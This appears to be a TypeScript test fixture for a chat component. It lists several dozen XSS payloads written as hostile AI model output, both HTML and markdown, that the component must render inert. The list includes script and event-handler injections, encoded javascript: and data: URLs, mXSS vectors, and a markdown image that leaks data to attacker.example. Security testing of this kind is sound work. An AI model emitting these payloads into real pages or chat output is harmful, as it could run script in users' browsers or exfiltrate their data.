/**
 * Hostile "model output": every payload tries to run `window.__xss = 1` (or `parent.__xss` from
 * a frame), navigate, or inject styles. Rendered by <neuronos-chat>, all must stay inert.
 *
 * `kind` says how the payload is written: 'html' (raw HTML in the model's text) or 'markdown'.
 */
export interface XssPayload {
  name: string;
  kind: 'html' | 'markdown';
  payload: string;
}

export const XSS_CORPUS: readonly XssPayload[] = [
  // --- raw HTML ------------------------------------------------------------------------------
  { kind: 'html', name: 'script element', payload: '<script>window.__xss=1</script>' },
  { kind: 'html', name: 'img onerror', payload: '<img src=x onerror="window.__xss=1">' },
  { kind: 'html', name: 'javascript: link', payload: '<a href="javascript:window.__xss=1">click me</a>' },
  { kind: 'html', name: 'svg onload', payload: '<svg onload="window.__xss=1"><circle r="1"></circle></svg>' },
  { kind: 'html', name: 'script inside svg', payload: '<svg><script>window.__xss=1</script></svg>' },
  { kind: 'html', name: 'iframe srcdoc', payload: '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>' },
  { kind: 'html', name: 'iframe javascript src', payload: '<iframe src="javascript:parent.__xss=1"></iframe>' },
  { kind: 'html', name: 'data:text/html link', payload: '<a href="data:text/html,<script>opener.__xss=1</script>">data</a>' },
  { kind: 'html', name: 'tab inside javascript:', payload: '<a href="jav&#x09;ascript:window.__xss=1">tab</a>' },
  { kind: 'html', name: 'entity-encoded javascript:', payload: '<a href="&#106;&#97;vascript:window.__xss=1">entity</a>' },
  { kind: 'html', name: 'leading space and case', payload: '<a href="  JaVaScRiPt:window.__xss=1">case</a>' },
  { kind: 'html', name: 'style attribute url()/expression()', payload: '<div style="background:url(javascript:window.__xss=1);width:expression(window.__xss=1)">style</div>' },
  { kind: 'html', name: 'style element', payload: '<style>*{display:none!important} @import "javascript:window.__xss=1";</style>visible?' },
  { kind: 'html', name: 'link stylesheet', payload: '<link rel="stylesheet" href="javascript:window.__xss=1">' },
  { kind: 'html', name: 'form action', payload: '<form action="javascript:window.__xss=1"><button>go</button></form>' },
  { kind: 'html', name: 'button formaction', payload: '<button formaction="javascript:window.__xss=1">x</button>' },
  { kind: 'html', name: 'math mglyph/style mXSS', payload: '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">' },
  { kind: 'html', name: 'math href', payload: '<math href="javascript:window.__xss=1"><mi>x</mi></math>' },
  { kind: 'html', name: 'object data', payload: '<object data="javascript:window.__xss=1"></object>' },
  { kind: 'html', name: 'embed src', payload: '<embed src="javascript:window.__xss=1">' },
  { kind: 'html', name: 'meta refresh', payload: '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">' },
  { kind: 'html', name: 'base href', payload: '<base href="javascript:window.__xss=1//"><a href="x">rel</a>' },
  { kind: 'html', name: 'details ontoggle', payload: '<details open ontoggle="window.__xss=1"><summary>s</summary>x</details>' },
  { kind: 'html', name: 'noscript mXSS', payload: '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>' },
  { kind: 'html', name: 'input autofocus onfocus', payload: '<input autofocus onfocus="window.__xss=1">' },
  { kind: 'html', name: 'video source onerror', payload: '<video><source onerror="window.__xss=1"></video>' },
  { kind: 'html', name: 'body onload', payload: '<body onload="window.__xss=1">b</body>' },
  { kind: 'html', name: 'template content', payload: '<template><img src=x onerror="window.__xss=1"></template>' },
  { kind: 'html', name: 'svg xlink:href', payload: '<svg><a xlink:href="javascript:window.__xss=1"><text y="20">x</text></a></svg>' },
  { kind: 'html', name: 'vbscript: link', payload: '<a href="vbscript:msgbox(1)">vb</a>' },
  { kind: 'html', name: 'marquee onstart', payload: '<marquee onstart="window.__xss=1">m</marquee>' },
  { kind: 'html', name: 'attribute breaking quotes', payload: '<a title="x"onmouseover="window.__xss=1" href="https://example.com">q</a>' },
  { kind: 'html', name: 'id clobbering', payload: '<a id="__xss" name="__xss" href="https://example.com">clobber</a>' },

  // --- Markdown ------------------------------------------------------------------------------
  { kind: 'markdown', name: 'markdown javascript: link', payload: '[click](javascript:window.__xss=1)' },
  { kind: 'markdown', name: 'markdown mixed-case javascript:', payload: '[click](JaVaScRiPt:window.__xss=1)' },
  { kind: 'markdown', name: 'markdown entity javascript:', payload: '[click](&#x6A;avascript:window.__xss=1)' },
  { kind: 'markdown', name: 'markdown colon entity', payload: '[click](javascript&#58;window.__xss=1)' },
  { kind: 'markdown', name: 'markdown angle-bracket destination', payload: '[click](<javascript:window.__xss=1>)' },
  { kind: 'markdown', name: 'markdown reference link', payload: 'See [the docs][x].\n\n[x]: javascript:window.__xss=1' },
  { kind: 'markdown', name: 'markdown reference with title', payload: '[a][r]\n\n[r]: javascript:window.__xss=1 "title"' },
  { kind: 'markdown', name: 'autolink javascript:', payload: '<javascript:window.__xss=1>' },
  { kind: 'markdown', name: 'autolink data:', payload: '<data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX194c3M9MTwvc2NyaXB0Pg==>' },
  { kind: 'markdown', name: 'markdown data: link', payload: '[data](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX194c3M9MTwvc2NyaXB0Pg==)' },
  { kind: 'markdown', name: 'markdown image javascript:', payload: '![pic](javascript:window.__xss=1)' },
  { kind: 'markdown', name: 'markdown image breaking out', payload: '![x](x" onerror="window.__xss=1)' },
  { kind: 'markdown', name: 'markdown image (exfiltration)', payload: '![t](https://attacker.example/leak?q=secret)' },
  { kind: 'markdown', name: 'html inside bold', payload: '**bold<img src=x onerror=window.__xss=1>**' },
  { kind: 'markdown', name: 'html inside table cell', payload: '| a | b |\n|---|---|\n| <img src=x onerror=window.__xss=1> | <script>window.__xss=1</script> |' },
  { kind: 'markdown', name: 'gfm bare-url autolink with html', payload: 'www.example.com/<img src=x onerror=window.__xss=1>' },
  { kind: 'markdown', name: 'code fence with script', payload: '```html\n<script>window.__xss=1</script>\n```' },
  { kind: 'markdown', name: 'inline code with script', payload: 'Use `<script>window.__xss=1</script>` carefully' },
  { kind: 'markdown', name: 'html block in markdown', payload: '<div onmouseover="window.__xss=1">\n\n*md inside*\n\n</div>' },
  { kind: 'markdown', name: 'link title breaking out', payload: '[x](https://example.com "a\\" onmouseover=\\"window.__xss=1")' },
  { kind: 'markdown', name: 'vbscript: link', payload: '[vb](vbscript:msgbox(1))' },
  { kind: 'markdown', name: 'task list (no inputs)', payload: '- [ ] todo\n- [x] done' },
];
